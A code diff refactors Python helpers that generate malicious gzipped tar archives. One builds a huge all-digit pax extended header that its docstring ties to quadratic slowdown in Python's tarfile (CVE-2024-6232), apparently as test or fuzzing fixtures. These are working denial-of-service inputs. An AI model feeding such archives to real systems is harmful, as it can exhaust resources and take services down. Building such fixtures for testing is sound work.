@@ -28,10 +28,15 @@ def pile(count: int) -> Iterator[tuple[str, bytes]]:
 
 def long_pax_number(number: int) -> bytes:
     """A tar's extended header of digits alone: quadratic in Python's tarfile (CVE-2024-6232)."""
-    body = b"%d" % (number % 9 + 1) * (250_000 - number)
+    digits = b"%d" % (number % 9 + 1) * (250_000 - number)
+    return gzip.compress(extended_header(digits) + bytes(1_024), mtime=0)
+
+
+def extended_header(body: bytes) -> bytes:
+    """Return an extended header of a tar, padded to whole blocks."""
     info = tarfile.TarInfo("x")
     info.type, info.size = tarfile.XHDTYPE, len(body)
-    return gzip.compress(info.tobuf(tarfile.USTAR_FORMAT) + body + bytes(-len(body) % 512 + 1024), mtime=0)
+    return info.tobuf(tarfile.USTAR_FORMAT) + body + bytes(-len(body) % 512)
 
 
 def header_of_semicolons(number: int) -> bytes:
